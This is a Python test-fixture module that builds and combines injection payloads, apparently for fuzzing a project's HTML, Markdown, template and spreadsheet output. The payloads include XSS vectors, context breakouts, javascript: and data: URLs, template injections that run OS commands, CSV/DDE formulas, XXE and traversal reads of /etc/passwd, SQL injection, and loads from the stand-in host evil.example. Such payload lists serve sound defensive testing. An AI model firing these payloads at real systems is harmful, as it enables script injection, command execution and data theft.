"""Texts with which strangers try to make a page, a feed, a table or a template run something.

Written from the classes of the OWASP cheat sheets, html5sec and the XML and CSV injection literature, not copied from a
list. A script that runs opens a dialog or sets `window.__xss`; one that loads asks the host `evil.example`.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterable, Iterator
from pathlib import Path

from sourcebook.text import hidden_character

_RUN = "self.__xss=1"
_EVENTS = """
onload onerror onclick onfocus onblur onmouseover onmouseenter onpointerenter onpointerrawupdate onanimationstart
onanimationend ontransitionend ontransitionrun ontoggle onbeforetoggle oncancel onclose onbegin onend onrepeat
onwheel onscroll onscrollend onresize onhashchange onpageshow onpopstate onmessage onunhandledrejection oncanplay
onloadstart onplay oncuechange oncopy onpaste onbeforeinput oninput oninvalid onsearch onselectstart onshow
oncontentvisibilityautostatechange onsecuritypolicyviolation onslotchange onfullscreenchange onauxclick
"""

HANDLERS = [f"<x{n} {event}={_RUN} tabindex=1 autofocus style=animation:x>x" for n, event in enumerate(_EVENTS.split())]

ELEMENTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<script\n>alert(1)</script\t>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="importmap">{"imports":{"x":"//evil.example/x.js"}}</script>',
    '<script type="speculationrules">{"prefetch":[{"urls":["//evil.example/"]}]}</script>',
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/p.gif>",
    "<img srcset='//evil.example/a 1x'>",
    "<img/src/onerror=alert(1)>",
    "<img src=x:x onerror=alert`1`>",
    "<IMG SRC=javascript:alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<picture><source srcset=//evil.example/a><img></picture>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=//evil.example/x.js></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "</text></svg><script>alert(1)</script>",
    "</title></g></svg><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>'>",
    "<applet code=x></applet>",
    "<portal src=//evil.example/></portal>",
    "<fencedframe src=//evil.example/></fencedframe>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example/>",
    "<link rel=import href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<style>*{display:none!important}</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>x</div>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<xss style='animation-name:x' onanimationstart=alert(1)></xss>",
    "<base href=//evil.example/>",
    "<base target=_blank>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta name=referrer content=unsafe-url>",
    "<meta charset=utf-7>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=filters><input name=elements></form>",
    "<form action=//evil.example/><button>Sign in</button>",
    "<button form=search formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=//evil.example/x>",
    "<isindex action=javascript:alert(1) type=image>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open oncancel=alert(1)>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video src=//evil.example/v onerror=alert(1)></video>",
    "<video poster=//evil.example/p></video>",
    "<video><source onerror=alert(1)></video>",
    "<video><track kind=metadata default src='data:text/vtt,WEBVTT' onload=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=//evil.example/x>",
    "<html manifest=//evil.example/x>",
    "<table background=//evil.example/x><td background=//evil.example/y>",
    "<bgsound src=//evil.example/x>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><slot onslotchange=alert(1)></slot></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<plaintext>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<a href=javascript:alert(1) id=x>x</a>",
    "<a ping=//evil.example/ href=#>x</a>",
    "<a id=__xss><a id=__xss name=1>",
    "<img name=currentScript><form name=documentElement>",
    "<?xml version='1.0'?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script><![CDATA[",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>",
    "<! foo='><script>alert(1)</script>'>",
    "<? foo='><script>alert(1)</script>'>",
    "</ foo='><script>alert(1)</script>'>",
]

_ENDS = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "&quot;>",
    "&#34;>",
    '\\"',
    "\\'",
    '"/>',
    "></a>",
    "</title>",
    "</style>",
    "</textarea>",
    "</option></select>",
    "</bdi></h1>",
    "</q>",
    "</dd></dl>",
    "</td></tr></table>",
    "</script>",
    "</svg>",
    "</desc>",
)
BREAKOUTS = [f"{end}<img src=x onerror={_RUN}>" for end in _ENDS[4:]] + [
    f"x{end} {event}={_RUN} x={end}"
    for end in _ENDS[:4]
    for event in ("onmouseover", "autofocus onfocus", "style=animation:x onanimationstart")
]

DATA_BLOCKS = [
    "</script><script>alert(1)</script>",
    "</script><svg onload=alert(1)>",
    "</SCRIPT\t><img src=x onerror=alert(1)>",
    "<!--<script>",
    "<!--<script></script>-->",
    "<!-- <script> <!-- </script> alert(1)//",
    '"});alert(1);//',
    "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '\\"-alert(1)}//',
    "';alert(1)//",
    "\\';alert(1)//",
    "-alert(1)-",
    "${alert(1)}",
    "`${alert(1)}`",
    "__proto__",
    "constructor",
    '{"__proto__":{"x":1}}',
    '{"@context":"//evil.example/"}',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&LT;img src=x onerror=alert(1)&GT",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "＜script＞alert(1)＜/script＞",
    "﹤img src=x onerror=alert(1)﹥",
    "ſcript <ſcript>alert(1)</ſcript>",
    "&xxe;",
    "%xxe;",
    "&#0;&#1;&#xFFFE;&#55296;",
]

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript://https://x.example/%0Aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "blob:https://x.example/1",
    "filesystem:https://x.example/1",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:https://evil.example/x!/",
    "about:blank",
    "intent://evil.example/#Intent;end",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "https:evil.example",
    "http://",
    "https://user:secret@evil.example/",
    'https://x.example/" onclick=alert(1) x="',
    "https://x.example/'onclick=alert(1)//",
    "https://x.example/<script>alert(1)</script>",
    "https://x.example/?a=1&b=<img src=x onerror=alert(1)>",
    "https://x.example/`onclick=alert(1)`",
    "https://[::1",
    "ht\ntps://evil.example/",
    "%6A%61%76%61script:alert(1)",
    "javascript\u200b:alert(1)",
    "javascript：alert(1)",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\\script:alert(1)>)",
    "[x](data:text/html,alert(1))",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](vbscript:x)",
    "[x](//evil.example/)",
    '[x](https://x.example/"onmouseover=alert(1)//)',
    '[x](https://x.example/ "t" onclick=alert(1))',
    "[x](https://x.example/ '\"onmouseover=alert(1) x=\"')",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]: https://x.example/ '\"><img src=x onerror=alert(1)>'\n\n[x]",
    "![x](//evil.example/p.gif)",
    '![x](x "onerror=alert(1)")',
    '!["onerror=alert(1)"](https://evil.example/x)',
    "<javascript:alert(1)>",
    '<https://x.example/"onclick=alert(1)>',
    "<img src=x onerror=alert(1)>",
    "<div markdown=1><script>alert(1)</script></div>",
    "`<script>alert(1)</script>`",
    '``` "><img src=x onerror=alert(1)>\nx\n```',
    "```<script>alert(1)</script>\nx",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "|<img src=x onerror=alert(1)>|\n|-|\n|x|",
    "*<img src=x onerror=alert(1)>*",
    "~~<svg onload=alert(1)>~~",
    "a<!-- --><script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)",
    "[<img src=x onerror=alert(1)>](https://x.example/)",
    "[x](https://x.example/)<script>alert(1)</script>",
    "http://x.example/<script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "{: onclick=alert(1) }",
    '!!! note "<img src=x onerror=alert(1)>"',
    '--8<-- "/etc/passwd"',
    "[TOC]",
]

TEMPLATES = [
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{{config}}",
    "{{layout}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{% raw %}{{7*7}}{% endraw %}",
    "{% include '/etc/passwd' %}",
    "{% for x in (1).__class__.__base__.__subclasses__() %}x{% endfor %}",
    "{# comment #}",
    "{{constructor.constructor('alert(1)')()}}",
    "{name}",
    "{0.__class__}",
    "%(name)s",
    "%s%n",
    "$name ${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<?php echo 7*7 ?>",
    "<#assign x=7*7>${x}",
    "@(7*7)",
    "*{7*7}",
    "[[7*7]]",
    "${{ github.event.issue.title }}",
    "$(id)",
    "`id`",
    "; id #",
    "::error::x",
    "\\input{/etc/passwd}",
    "@article{x, title={y}}, note={",
]

SHEETS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("//evil.example/","x")',
    '=IMPORTXML("//evil.example/","//a")',
    '=WEBSERVICE("//evil.example/")',
    "\t=1+1",
    '"=1+1',
    '","=1+1',
    "＝1+1",
    "'=1+1",
    '=DDE("x";"y")',
    "%0A=1+1",
    "x;=1+1",
    "x\n=1+1",
]

ODD = [
    "null",
    "true",
    "NaN",
    "-0",
    "1e309",
    "undefined",
    "' OR 1=1 --",
    "'; DROP TABLE claims; --",
    "\\",
    "\\0",
    "a\\u0000b",
    "../../../etc/passwd",
    "..%2f..%2f",
    "C:\\con",
    "x" * 5000,
    "W" * 300,
    "ﷺ" * 20,
    "Z̸̡̢͇̖͎̱͍̞͔̩͕̦̓̈́̏͗͑̎͆͐̔͝͠͠" * 5,
    "👩‍🚀".replace("\u200d", ""),
    "שלום عليكم",
    "a\nb\nc",
    "a\u00a0b",
    "#x",
    "?x=1&y=2",
    "a=b",
    "a·b",
    "<",
    "&",
    ">",
    '"',
    "'",
]

HIDDEN = [
    "a\u2028b",
    "a\u2029b",
    "a\u202ecba\u202c",
    "a\u2066b\u2069",
    "a\u200bb",
    "a\u200db",
    "\ufeffx",
    "a\x00b",
    "a\x08b",
    "a\x1bb[31m",
    "a\x85b",
    "a\u00adb",
    "a\ufffeb",
    "a\U000e0041b",
    "<\u200bscript>alert(1)</script>",
    "java\u00adscript:alert(1)",
    "</\u2028script>",
]
"""Refused in values; a text that is archived may have them."""

OTHERS = os.environ.get("SOURCEBOOK_PAYLOADS", "")
"""A file with a list of more payloads (JSON): benchmarks/payloads.py makes one of several thousand."""

ALL: tuple[str, ...] = tuple(
    dict.fromkeys([*HANDLERS, *ELEMENTS, *BREAKOUTS, *DATA_BLOCKS, *ADDRESSES, *MARKDOWN, *TEMPLATES, *SHEETS, *ODD, *HIDDEN,
                   *(json.loads(Path(OTHERS).read_text(encoding="utf-8")) if OTHERS else ())])
)  # fmt: skip


def visible(texts: Iterable[str]) -> tuple[str, ...]:
    """Those that a record can hold: no character that is refused, no white space at the ends."""
    return tuple(text for text in texts if text and not hidden_character(text) and text == text.strip() and "\r" not in text)


VISIBLE = visible(ALL)


def combined() -> Iterator[str]:
    """Several thousand: every element behind every way out of a context, every event in every element, other spellings of both."""
    attacks = [text for text in ELEMENTS if "alert(1)" in text or "evil.example" in text]
    for end in _ENDS:
        yield from (end + text for text in attacks)
    for element in (
        "img src=x",
        "svg",
        "body",
        "input autofocus",
        "details open",
        "video src=x",
        "audio src=x",
        "iframe",
        "object data=x",
        "a href=#",
    ):
        yield from (f"<{element} {event}={_RUN}>" for event in _EVENTS.split())
        yield from (f"\"><{element}/{event}='{_RUN}'>" for event in _EVENTS.split()[::4])
    for text in attacks:
        yield text.replace("<", "&lt;").replace(">", "&gt;")
        yield text.replace("<", "%3C").replace(">", "%3E")
        yield text.replace("<", "\\u003c").replace(">", "\\u003e")
        yield "".join(f"&#{ord(c)};" for c in text)
        yield "".join(f"&#x{ord(c):x}" if c in "<>\"'=()" else c for c in text)
        yield text.swapcase()
        yield text.replace(" ", "/")
        yield text.replace("alert(1)", "self['__xss']=1")
    for address in ADDRESSES:
        for frame in (
            "[x]({})",
            "<{}>",
            "![x]({})",
            "[x]: {}\n\n[x]",
            "<a href='{}'>x</a>",
            "<img src='{}'>",
            "<svg><a xlink:href='{}'>",
            "url({})",
        ):
            yield frame.format(address)


def groups(count: int) -> tuple[tuple[str, ...], ...]:
    """All visible payloads in so many groups; those that matter at the beginning of a text stand at the beginning of one."""
    first = [text for text in (*SHEETS, *ADDRESSES) if text in VISIBLE]
    known = set(first)
    ordered = [*first, *(text for text in VISIBLE if text not in known)]
    return tuple(tuple(ordered[n::count]) for n in range(min(count, len(ordered))))


def fits(text: str) -> bool:
    """Whether it is no longer than a quote or a Markdown value may be, and has not what stands between the items of a list."""
    return len(text) <= 9_000 and len(text.split()) <= 380 and "⸿" not in text


def packed(most: int = 20, characters: int = 3_000, words: int = 250) -> tuple[tuple[str, ...], ...]:
    """All visible payloads in groups of some, none of which makes a text longer than a quote or a value may be."""
    made: list[list[str]] = [[]]
    for text in VISIBLE:
        if not fits(text):
            continue
        group = [*made[-1], text]
        if len(group) > most or sum(map(len, group)) > characters or sum(len(each.split()) + 1 for each in group) > words:
            made.append([text])
        else:
            made[-1] = group
    return tuple(map(tuple, made))
